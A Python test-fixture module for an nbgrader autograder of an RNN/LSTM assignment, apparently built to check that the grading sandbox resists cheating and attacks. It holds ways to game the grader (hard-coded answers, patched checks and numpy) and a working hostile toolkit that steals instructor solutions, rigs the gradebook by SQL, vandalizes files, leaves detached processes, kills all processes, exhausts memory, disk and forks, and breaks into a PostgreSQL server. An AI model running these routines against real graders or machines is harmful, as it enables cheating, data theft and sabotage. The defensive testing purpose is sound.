"""The fixture corpus: submissions that try every way to be graded wrongly, each with the grade
per exercise it must get. All of them are graded in one ``nbgrader autograde`` run.

A fixture builds its submission folder from the committed release and the reference solutions
(the release's solution cells filled in, then edited the way a learner would).
"""
import hashlib
import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from tests.support.mutants import mistake
from tests.support.ports import listener_port
from tests.support.rnn_assignment import ASSIGNMENT, EXERCISES, ROOT, filled, submitted


@dataclass
class Fixture:
    student: str
    about: str
    build: callable  # (course_root, student, solutions) -> None
    zero: set = field(default_factory=set)  # exercises that must score 0; the rest full marks
    timeouts: int = 0  # kernel timeouts the notebook run may take (one at most, never one per cell)

    def expected(self, points):
        return {name: 0 if name in self.zero else points[name] for name in EXERCISES}


KERNEL_PROBE = "kernel_probe"  # its feedback says how the grading kernel was started


def verdict_in(autograded_notebook, tag):
    """The JSON a submission's code printed after ``tag`` in an autograded notebook: in a scratch
    cell's output (its kernel), or in an exercise's failure message (where the judge's worker
    has its say: the exception the learner's function raised)."""
    nb = nbformat.read(str(autograded_notebook), as_version=4)
    texts = [o.get("text", "") + o.get("evalue", "")
             for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])]
    text = next((t for t in texts if f"{tag} {{" in t), None)
    if text is None:
        raise LookupError(f"no {tag} verdict in {autograded_notebook}")
    return json.JSONDecoder().raw_decode(text.split(f"{tag} ", 1)[1])[0]


def kernel_seen_by(autograded_notebook):
    """What the kernel_probe learner's scratch cell printed in an autograded notebook."""
    return verdict_in(autograded_notebook, "KERNEL")


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _answers(solutions, *mistakes, **replacements):
    """Reference answers with the named mistakes made and some cells' sources replaced."""
    answers = dict(solutions)
    for name in mistakes:
        answers = mistake(name).apply(answers)
    answers.update(replacements)
    return answers


def _with_answers(*mistakes, edit=None, **replacements):
    """A builder: the release filled with the answers, then ``edit(nb)`` applied."""
    def build(root, student, solutions):
        nb = filled(_answers(solutions, *mistakes, **replacements))
        if edit is not None:
            edit(nb, solutions)
        submitted(root, student, nb)
    return build


def _prepend_to(exercise, code):
    """A replacement for a solution cell: extra code, then the reference answer."""
    return lambda solutions: code + "\n\n" + solutions[exercise]


def _replacing(**makers):
    """Builder arguments whose replacement sources are computed from the solutions."""
    def build(root, student, solutions):
        answers = dict(solutions)
        for name, maker in makers.items():
            answers[name] = maker(solutions)
        submitted(root, student, filled(answers))
    return build


# --- edits of whole notebooks ---------------------------------------------------------------

def _clear_test_cells(nb, solutions):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "pass"


def _delete_test_cells(nb, solutions):
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _duplicate_cells(nb, solutions):
    for grade_id in ("rnn_cell_forward", "rnn_forward_test", "lstm_cell_backward"):
        index = nb.cells.index(_cell(nb, grade_id))
        copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[index])))
        copy.id = f"{copy.id}-copy"  # Jupyter gives a pasted cell a new id
        nb.cells.insert(index + 1, copy)


def _move_cells(nb, solutions):
    solution = _cell(nb, "lstm_cell_forward")
    nb.cells.remove(solution)
    nb.cells.append(solution)  # defined at the very end
    check = _cell(nb, "rnn_cell_forward_test")
    nb.cells.remove(check)
    nb.cells.insert(0, check)  # checked before anything is defined


def _add_cell(source):
    def edit(nb, solutions):
        nb.cells.append(nbformat.v4.new_code_cell(source))
    return edit


HARD_CODED = '''
def {name}(*args):
    """Answer the visible cases from the data the release ships, and nothing else."""
    import os
    import numpy as np
    import public_tests
    data = np.load(os.path.join(os.path.dirname(public_tests.__file__), "check_data.npz"))
    prefix = "{name}/"
    for key in data.files:
        if key.startswith(prefix) and key.endswith("/{first}") and data[key].shape == args[0].shape \\
                and np.allclose(data[key], args[0]):
            case = key[len(prefix):].split("/")[0]
            get = lambda field: data[prefix + case + "/" + field]
            return {answer}
    return {fallback}
'''

HARD_CODED_RNN_CELL = HARD_CODED.format(
    name="rnn_cell_forward", first="xt",
    answer='get("a_next"), get("yt_pred"), (get("a_next"), args[1], args[0], args[2])',
    fallback="None, None, None")
HARD_CODED_LSTM_CELL_BACKWARD = HARD_CODED.format(
    name="lstm_cell_backward", first="da_next",
    answer='{k: get(k) for k in ("dxt", "da_prev", "dc_prev", "dWf", "dbf", "dWi", "dbi", "dWc", "dbc", "dWo", "dbo")}',
    fallback="{}")

FAKE_PUBLIC_TESTS = '''
"""A learner's own public_tests.py: every check passes."""
def _ok(target):
    print("all checks passed")
rnn_cell_forward_test = rnn_forward_test = lstm_cell_forward_test = lstm_forward_test = _ok
rnn_cell_backward_test = rnn_backward_test = lstm_cell_backward_test = lstm_backward_test = _ok
'''


def _own_helper_files(root, student, solutions):
    folder = submitted(root, student, filled(_answers(solutions, "a0_every_step", "rnn_no_ba")))
    (folder / "public_tests.py").write_text(FAKE_PUBLIC_TESTS)
    (folder / "public_tests" / "forward.py").write_text(FAKE_PUBLIC_TESTS)
    (folder / "rnn_utils" / "activations.py").write_text(
        "def softmax(z):\n    return z\n\ndef sigmoid(z):\n    return z\n")


def _file_content(content):
    def build(root, student, solutions):
        folder = submitted(root, student)
        (folder / f"{ASSIGNMENT}.ipynb").write_bytes(content)
    return build


def _no_cells(root, student, solutions):
    folder = submitted(root, student)
    nbformat.write(nbformat.v4.new_notebook(), str(folder / f"{ASSIGNMENT}.ipynb"))


def _corrupt(root, student, solutions):
    folder = submitted(root, student, filled(solutions))
    path = folder / f"{ASSIGNMENT}.ipynb"
    path.write_bytes(path.read_bytes()[:5000])  # cut off mid-file, as by a full disk


# --- attacks on the grader ------------------------------------------------------------------
#
# An attacker's tools are defined in its first solution cell (as text, run with exec, so that a
# detached process can run them again). Every learner cell runs both in the feedback kernel and
# in the judge's worker; a scratch cell prints what the kernel got ("HOSTILE {json}"), and a
# function that raises "WORKER {json}" has the worker's words shown in its exercise's failure
# message. Where the course is in sight (no sandbox), the attacks that could hurt the machine
# hold back (they kill only their parent, fill 512 MiB at most, walk no disk), so that a hole
# fails the run instead of killing every process on it; no attack writes into the kit itself.

HOSTILE_TOOLS = r'''
import glob, json, os, signal, sqlite3, sys, time

_SECRETS = ("source/{a}/{a}.ipynb", "gradebook.db", "nbgrader_config.py", "source/{a}/instructor/cases.py",
            "submitted/ada/{a}/{a}.ipynb", "autograded/ada/{a}/{a}.ipynb")
_RIG = ("UPDATE grade SET manual_score = 0",
        "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
        "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
        "ON n.assignment_id = a.id WHERE a.student_id = '" + _STUDENT + "')")


def _pids():
    return sorted(int(p[6:]) for p in glob.glob("/proc/[0-9]*"))


def _courses():
    """Every folder in sight that holds a course: the ancestors of the working directory, of
    sys.path, of the paths in the environment and of every visible process's working
    directory, and the folders the builder of this submission knew."""
    starts = [os.getcwd(), *sys.path, *_COURSE, _KIT]
    starts += [part for value in os.environ.values() for part in value.split(os.pathsep)]
    for pid in _pids():
        try:
            starts.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    found = []
    for path in starts:
        while path.startswith("/") and os.path.dirname(path) != path:
            if path not in found and any(os.path.exists(os.path.join(path, name))
                                         for name in ("nbgrader_config.py", "gradebook.db", "submitted")):
                found.append(path)
            path = os.path.dirname(path)
    return found


def _exposed():
    """Unconfined: not nobody, or a course in sight."""
    return os.getuid() != 65534 or bool(_courses())


def _own_courses():
    """The courses found that this submission's builder made (never the kit's own)."""
    own = {os.path.realpath(path) for path in _COURSE}
    return [path for path in _courses() if os.path.realpath(path) in own]


def _strays():
    """Notebooks, gradebooks and kernel connection files anywhere in sight, but this
    grading's own (none when exposed: that would walk the machine)."""
    if _exposed():
        return []
    skip = {"/proc", "/sys", "/dev", "/usr", os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix)}
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in skip]
        if (folder + "/").startswith(os.getcwd() + "/"):
            continue
        found += [os.path.join(folder, f) for f in files
                  if f.endswith(".ipynb") or f in ("gradebook.db", "connection.json")]
    return [path for path in found if path not in sys.argv]  # a kernel's own connection file


def _readable():
    """The course's files, other learners' work and other gradings' files that can be read."""
    paths = [os.path.join(root, name.format(a=_ASSIGNMENT)) for root in _courses() for name in _SECRETS]
    read = []
    for path in paths + _strays():
        try:
            with open(path, "rb") as handle:
                if handle.read(1):
                    read.append(path)
        except OSError:
            pass
    return read


def _open_folders():
    """Folders this process holds open: an inherited descriptor leads wherever it was opened."""
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            if os.path.isdir(f"/proc/self/fd/{fd}") and not target.startswith("/proc/"):
                found.append(target)
        except OSError:
            pass
    return found


def _peel_mounts():
    """In a nested user and mount namespace, unmount the sandbox's /tmp and home."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    child = os.fork()
    if child == 0:
        code = 1
        try:
            if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
                peeled = [p for p in ("/tmp", os.path.expanduser("~")) if libc.umount2(p.encode(), 2) == 0]
                code = 3 if peeled else 2
        finally:
            os._exit(code)
    _, status = os.waitpid(child, 0)
    return {1: "no nested namespace", 2: "nothing unmounted", 3: "unmounted"}[os.waitstatus_to_exitcode(status)]


def _call_home():
    """Try the tests' HTTP server on loopback."""
    import urllib.request
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{_PORT}/{_STUDENT}", timeout=2) as reply:
            return f"connected ({reply.status})"
    except OSError as error:
        return f"{type(error).__name__}: {getattr(error, 'reason', error)}"


def _seen():
    """What this process finds around it."""
    with open("/proc/net/dev") as handle:
        interfaces = [line.split(":")[0].strip() for line in handle.readlines()[2:]]
    return {"uid": os.getuid(), "pid": os.getpid(), "pids": _pids(), "interfaces": interfaces, "read": _readable(),
            "open_folders": _open_folders(), "nested": _peel_mounts(), "home": _call_home()}


def _steal_solutions():
    """Run the solution cells of the first source notebook found; how many ran."""
    for root in _courses():
        try:
            with open(os.path.join(root, "source", _ASSIGNMENT, _ASSIGNMENT + ".ipynb")) as handle:
                cells = json.load(handle)["cells"]
        except (OSError, ValueError):
            continue
        sources = ["".join(c["source"]) for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
        for source in sources:
            exec(source, globals())
        return len(sources)
    return 0


def _rig_gradebook(root):
    """Everyone's grades to 0 and this learner's to full marks, as manual scores; whether it took."""
    try:
        db = sqlite3.connect(f"file:{root}/gradebook.db?mode=rw", uri=True, timeout=1)
        try:
            with db:
                for statement in _RIG:
                    db.execute(statement)
        finally:
            db.close()
        return True
    except sqlite3.Error:
        return False


def _vandalize():
    """Rig the gradebook, append to the configuration and the course's tools, blank the source
    notebook and ben's submitted and autograded notebooks; what was changed."""
    changed = []
    for root in _own_courses():
        if _rig_gradebook(root):
            changed.append(os.path.join(root, "gradebook.db"))
        appended = [os.path.join(root, "nbgrader_config.py")]
        appended += glob.glob(os.path.join(root, "course_tools", "**", "*.py"), recursive=True)
        blanked = [os.path.join(root, folder, _ASSIGNMENT, _ASSIGNMENT + ".ipynb")
                   for folder in ("source", "submitted/ben", "autograded/ben")]
        for path, mode in [(p, "a") for p in appended] + [(p, "w") for p in blanked]:
            try:
                with open(path, mode) as handle:
                    handle.write("\n# vandalized\n" if mode == "a" else "")
                changed.append(path)
            except OSError:
                pass
    return changed


def _writable_shared():
    """Files every grading runs that this process could write to (opened, never written): the
    interpreter's, numpy's, the helpers' and the judge's worker's."""
    import numpy
    import public_tests
    shared = [os.__file__, numpy.__file__, public_tests.__file__, sys.executable]
    shared += [os.path.join(path, "sandboxed", "worker.py") for path in sys.path if path]
    writable = []
    for path in shared:
        try:
            with open(path, "ab"):
                writable.append(path)
        except OSError:
            pass
    return writable


def _linger():
    """For five minutes, keep trying to leave the marker beside the course and in /tmp, and to
    rig the gradebook."""
    deadline = time.time() + 300
    while time.time() < deadline:
        for folder in ["/tmp", *_own_courses()]:
            try:
                open(os.path.join(folder, _MARKER), "w").close()
            except OSError:
                pass
        for root in _own_courses():
            _rig_gradebook(root)
        time.sleep(0.5)


def _leave_a_lingerer():
    """Start _linger detached (double fork, new session), as a program whose command line
    holds the marker; the middle process's pid."""
    middle = os.fork()
    if middle == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.execv(sys.executable, [sys.executable, "-c", _TOOLS + "\n_linger()", _MARKER])
        finally:
            os._exit(0)
    os.waitpid(middle, 0)
    return middle


def _kill_everyone():
    """Stop, terminate and kill every other pid in /proc, kill all kill(-1) reaches, then the
    parent (when exposed: only the parent); then wait a moment for an end from outside."""
    if not _exposed():
        for pid in set(_pids()) - {os.getpid(), os.getppid()}:
            for signum in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, signum)
                except OSError:
                    pass
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(2)


def _hog_memory():
    """4 GiB at once."""
    return len(bytearray(4 << 30))


def _fill_disk():
    """16 MiB files here until the disk refuses; 512 MiB at most."""
    for n in range(32):
        try:
            with open(f"flood-{n}.bin", "wb") as handle:
                handle.write(bytes(16 << 20))
        except OSError as error:
            raise OSError(f"{error.strerror} after {16 * n} MiB") from None
    return 512


def _fork_children():
    """Children that sleep for twenty seconds, until refused; 300 at most."""
    for n in range(300):
        try:
            child = os.fork()
        except OSError as error:
            raise OSError(f"{error.strerror} after {n} children") from None
        if child == 0:
            try:
                time.sleep(20)
            finally:
                os._exit(0)
    return 300


def _flooded(flood):
    """What a flood got: its result, or the error that stopped it."""
    try:
        return f"got {flood()}"
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def _break_into(url):
    """Connect to a PostgreSQL server, at ``url`` and through any of its Unix sockets in sight,
    and leave a table there; what happened each time."""
    import psycopg2
    from urllib.parse import urlsplit
    targets = [url] + [f"host={folder} port={urlsplit(url).port} user=grader dbname=gradebook"
                       for folder in glob.glob("/tmp/rnn-kit-postgres-*/sockets")]
    outcomes = []
    for target in targets:
        try:
            with psycopg2.connect(target, connect_timeout=2) as db, db.cursor() as cursor:
                cursor.execute("CREATE TABLE IF NOT EXISTS intruder_was_here (id integer)")
            outcomes.append("connected")
        except psycopg2.Error as error:
            outcomes.append(f"{type(error).__name__}: {str(error).strip().splitlines()[0]}")
    return outcomes


def _verdict(tag, found):
    """The one line of JSON the tests read; flushed, for a process about to die."""
    print(tag + " " + json.dumps(found), flush=True)
'''


def lingerer_marker(course):
    """The word in the command line of the process the lingerer leaves, and the name of the
    file it tries to leave: one per course, so that runs beside each other keep apart."""
    return "rnn-hostile-" + hashlib.sha256(str(course).encode()).hexdigest()[:12]


def _attacker_tools(course, student):
    """The attacker's first lines: the tools, after what the builder of the submission knew (the
    course's folders, the kit's, the marker, the tests' listener on loopback)."""
    tools = (f"_COURSE = {[str(course), str(Path(course).resolve()), str(Path(course).parent)]!r}\n"
             f"_KIT = {str(ROOT)!r}\n_ASSIGNMENT = {ASSIGNMENT!r}\n_STUDENT = {student!r}\n"
             f"_MARKER = {lingerer_marker(course)!r}\n_PORT = {listener_port()}\n" + HOSTILE_TOOLS)
    return f"_TOOLS = {tools!r}\nexec(_TOOLS)\n\n"


def _attack(*mistakes, cell=None, **first_lines):
    """A builder: the reference answers with ``mistakes`` made, the attacker's tools in the first
    solution cell, ``first_lines[exercise]`` run first in that exercise's function, ``cell`` a
    scratch cell at the end."""
    def build(root, student, solutions):
        answers = _answers(solutions, *mistakes)
        answers[EXERCISES[0]] = _attacker_tools(root, student) + answers[EXERCISES[0]]
        for exercise, line in first_lines.items():
            answers[exercise] = answers[exercise].replace("    ### BEGIN SOLUTION",
                                                          "    ### BEGIN SOLUTION\n    " + line, 1)
        nb = filled(answers)
        if cell is not None:
            _add_cell(cell)(nb, solutions)
        submitted(root, student, nb)
    return build


REPORT_FROM_WORKER = 'raise RuntimeError("WORKER " + json.dumps(_seen()))'


CORPUS = [
    # 1. hidden checks: passing the visible cases alone earns nothing
    Fixture("hardcoded", "answers only the visible cases, from the data file the release ships",
            _replacing(rnn_cell_forward=lambda s: HARD_CODED_RNN_CELL,
                       lstm_cell_backward=lambda s: HARD_CODED_LSTM_CELL_BACKWARD),
            zero={"rnn_cell_forward", "lstm_cell_backward"}),
    Fixture("fails_m1", "right for several examples, wrong for one (m = 1): squeezes the batch axis",
            _replacing(rnn_cell_forward=lambda s: s["rnn_cell_forward"].replace("Wax @ xt + ba", "Wax @ xt.squeeze() + ba")),
            zero={"rnn_cell_forward"}),
    # 2. one exercise, one grade: wrong cells cost nothing in the sequence functions
    Fixture("wrong_cells", "every cell function wrong, every sequence function right",
            _with_answers("rnn_no_ba", "concat_order", "tanh_derivative_1_minus_a", "dc_prev_without_da_path"),
            zero={"rnn_cell_forward", "lstm_cell_forward", "rnn_cell_backward", "lstm_cell_backward"}),
    Fixture("wrong_forwards", "rnn_forward and lstm_forward wrong, every backward right",
            _with_answers("a0_every_step", "c_starts_at_a0"), zero={"rnn_forward", "lstm_forward"}),
    # 5. tampering gains nothing
    Fixture("edited_tests", "every test cell emptied, one exercise wrong",
            _with_answers("rnn_cache_order", edit=_clear_test_cells), zero={"rnn_cell_forward"}),
    Fixture("deleted_tests", "every test cell deleted, one exercise wrong",
            _with_answers("gate_order_in_cache", edit=_delete_test_cells), zero={"lstm_cell_forward"}),
    Fixture("redefined_checks", "a solution cell redefines the check functions",
            _replacing(rnn_cell_forward=lambda s: mistake("rnn_no_softmax").apply(s)["rnn_cell_forward"] + '''

def rnn_cell_forward_test(target):
    print("rnn_cell_forward: all checks passed")

def rnn_backward_test(target):
    print("rnn_backward: all checks passed")
''', rnn_backward=lambda s: mistake("forward_in_time").apply(s)["rnn_backward"]),
            zero={"rnn_cell_forward", "rnn_backward"}),
    Fixture("patched_checks", "a solution cell monkeypatches the checks' modules",
            _replacing(lstm_forward=lambda s: mistake("return_order").apply(s)["lstm_forward"] + '''

import public_tests, public_tests.compare, public_tests.forward, public_tests.exercise
public_tests.compare.expect_items = lambda *args, **kwargs: None
public_tests.forward.expect_items = lambda *args, **kwargs: None
public_tests.exercise.Exercise.check = lambda self, target, cases=None: print("all checks passed")
'''), zero={"lstm_forward"}),
    Fixture("patched_numpy", "a solution cell patches numpy's comparison functions",
            _replacing(lstm_backward=lambda s: mistake("dc_not_carried").apply(s)["lstm_backward"] + '''

import numpy
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.all = lambda *args, **kwargs: True
'''), zero={"lstm_backward"}),
    Fixture("own_helpers", "ships its own public_tests.py and edited copies of the helpers",
            _own_helper_files, zero={"rnn_forward", "rnn_cell_forward"}),
    # 6. broken submissions are graded, never lost
    Fixture("syntax_error", "a syntax error in one solution cell",
            _replacing(rnn_forward=lambda s: s["rnn_forward"].replace("for t in range(T_x):", "for t in range(T_x)")),
            zero={"rnn_forward"}),
    Fixture("crash_in_function", "rnn_cell_forward multiplies a weight matrix with *, so numpy raises in its line",
            _with_answers("weight_times_state_elementwise"), zero={"rnn_cell_forward"}),
    Fixture("exception_in_cell", "a cell that raises before it defines its function",
            _replacing(lstm_cell_backward=_prepend_to("lstm_cell_backward", "undefined_name + 1")),
            zero={"lstm_cell_backward"}),
    Fixture("endless_loop", "an endless loop inside one function",
            _replacing(rnn_cell_backward=lambda s: s["rnn_cell_backward"].replace(
                "    ### BEGIN SOLUTION", "    ### BEGIN SOLUTION\n    while True:\n        pass")),
            zero={"rnn_cell_backward"}, timeouts=1),
    Fixture("endless_cell", "a scratch cell at the end that never finishes, everything else right",
            _with_answers(edit=_add_cell("while True:\n    pass")), timeouts=1),
    Fixture("stubborn_loop", "a loop that swallows every interrupt, inside one function",
            _replacing(lstm_cell_forward=lambda s: s["lstm_cell_forward"].replace(
                "    ### BEGIN SOLUTION",
                "    ### BEGIN SOLUTION\n    while True:\n        try:\n            while True:\n                pass\n"
                "        except BaseException:\n            pass")),
            zero={"lstm_cell_forward"}, timeouts=1),
    Fixture("kernel_dies", "a function that ends the Python process",
            _replacing(lstm_forward=lambda s: s["lstm_forward"].replace(
                "    ### BEGIN SOLUTION", "    ### BEGIN SOLUTION\n    import os\n    os._exit(3)")),
            zero={"lstm_forward"}),
    Fixture("exit_in_cell", "a scratch cell at the end that ends the Python process, everything else right",
            _with_answers(edit=_add_cell("import os\nos._exit(0)"))),
    Fixture("forged_reply", "a function that writes deeply nested JSON into the judge's reply pipe",
            _replacing(rnn_backward=lambda s: s["rnn_backward"].replace("    ### BEGIN SOLUTION", (
                "    ### BEGIN SOLUTION\n    import gc\n"
                "    for _channel in [o for o in gc.get_objects() if type(o).__name__ == '_Channel']:\n"
                "        _channel.outgoing.write(b'[' * 200_000 + b'\\n')\n"
                "        _channel.outgoing.flush()"))),
            zero={"rnn_backward"}),
    Fixture(KERNEL_PROBE, "everything right, and a scratch cell that prints how its kernel was started",
            _with_answers(edit=_add_cell(
                "import json, os, psutil\nfrom ipykernel.kernelapp import IPKernelApp\n"
                "connection = json.load(open(IPKernelApp.instance().abs_connection_file))\n"
                "print('KERNEL ' + json.dumps({'transport': connection['transport'],\n"
                "                              'forked': 'sandboxed.zygote' in ' '.join(psutil.Process().cmdline()),\n"
                "                              'uid': os.getuid()}))"))),
    Fixture("huge_output", "a right function that prints 20 MB every call",
            _replacing(rnn_forward=lambda s: s["rnn_forward"].replace(
                "    ### BEGIN SOLUTION", '    ### BEGIN SOLUTION\n    print("x" * 20_000_000)'))),
    Fixture("stderr_noise", "right functions that warn and write to stderr",
            _replacing(rnn_cell_forward=_prepend_to("rnn_cell_forward", "import sys, warnings"),
                       rnn_backward=lambda s: s["rnn_backward"].replace(
                           "    ### BEGIN SOLUTION", '    ### BEGIN SOLUTION\n    print("debug: backward", file=sys.stderr)\n'
                           '    warnings.warn("this is only a warning")'))),
    Fixture("duplicated_cells", "copy-pasted solution and test cells, everything right",
            _with_answers(edit=_duplicate_cells)),
    Fixture("moved_cells", "a solution cell moved to the end and a test cell moved to the top",
            _with_answers(edit=_move_cells)),
    Fixture("empty_file", "an empty (0-byte) notebook file", _file_content(b""), zero=set(EXERCISES)),
    Fixture("corrupt_file", "a notebook file cut off in the middle", _corrupt, zero=set(EXERCISES)),
    Fixture("no_cells", "a valid notebook with no cells at all", _no_cells, zero=set(EXERCISES)),
    # 7. attacks on the grader: confined, they gain nothing and hurt nobody
    Fixture("thief", "runs the solution cells of the instructor's source notebook, wherever it finds one; one "
                     "exercise wrong", _attack("rnn_no_ba", cell='_verdict("HOSTILE", {"stolen": _steal_solutions()})'),
            zero={"rnn_cell_forward"}),
    Fixture("spy", "looks for the gradebook, the grader's code, other learners' work and the network, from its "
                   "kernel and from the judge's worker", _attack(cell='_verdict("HOSTILE", _seen())',
                                                                   rnn_forward=REPORT_FROM_WORKER),
            zero={"rnn_forward"}),
    Fixture("vandal", "rigs the gradebook, edits the configuration, the tools and the source, blanks ben's "
                      "notebooks; one exercise wrong",
            _attack("lstm_no_bf",
                    cell='_verdict("HOSTILE", {"changed": _vandalize(), "writable": _writable_shared()})'),
            zero={"lstm_cell_forward"}),
    Fixture("lingerer", "leaves a detached process that keeps trying to write outside and to rig the gradebook; "
                        "one exercise wrong",
            _attack("tanh_derivative_1_minus_a", cell='_verdict("HOSTILE", {"left": _leave_a_lingerer()})'),
            zero={"rnn_cell_backward"}),
    Fixture("killer_in_cell", "a scratch cell that kills every pid in /proc, all kill(-1) reaches and its parent; "
                              "everything else right",
            _attack(cell='_verdict("HOSTILE", {"pid": os.getpid(), "pids": _pids()})\n'
                         'time.sleep(0.5)  # for the output to leave\n_kill_everyone()')),
    # the first process of its own PID namespace and session, the killer hits nothing but its
    # own sandbox, and cannot even end itself by a signal: its right function keeps its points
    Fixture("killer_in_function", "one function that kills every pid in /proc, all kill(-1) reaches and its parent",
            _attack(rnn_cell_backward="_kill_everyone()")),
    Fixture("flooder_in_cell", "a scratch cell that takes 4 GiB, fills the disk and forks until refused; everything "
                               "else right",
            _attack(cell='_verdict("HOSTILE", {f.__name__: _flooded(f)\n'
                         '                     for f in (_hog_memory, _fill_disk, _fork_children)})')),
    Fixture("flooder_in_functions", "three functions that flood: one takes 4 GiB, one fills the disk, one forks "
                                    "until refused",
            _attack(rnn_cell_forward="_hog_memory()", lstm_cell_forward="_fill_disk()",
                    lstm_cell_backward="_fork_children()"),
            zero={"rnn_cell_forward", "lstm_cell_forward", "lstm_cell_backward"}),
]


def submit_corpus(root, solutions):
    for fixture in CORPUS:
        fixture.build(root, fixture.student, solutions)


def course_files(course):
    """``{path: sha256}`` of what no learner's code may change: the course's configuration,
    source, tools and submissions (links followed, caches left out)."""
    digests = {}
    for name in ("nbgrader_config.py", "source", "course_tools", "submitted"):
        top = (Path(course) / name).resolve()
        for path in [top] if top.is_file() else sorted(top.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digests[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def db_intruder(db_url):
    """A learner who tries to break into the PostgreSQL gradebook at ``db_url``, from its kernel
    and from the judge's worker (reporting from lstm_backward); for a class graded into it."""
    attempt = f"_break_into({db_url!r})"
    return Fixture("db_intruder", "connects to the PostgreSQL gradebook's server and leaves a table there",
                   _attack(cell=f'_verdict("HOSTILE", {{"db": {attempt}}})',
                           lstm_backward=f'raise RuntimeError("WORKER " + json.dumps({{"db": {attempt}}}))'),
                   zero={"lstm_backward"})
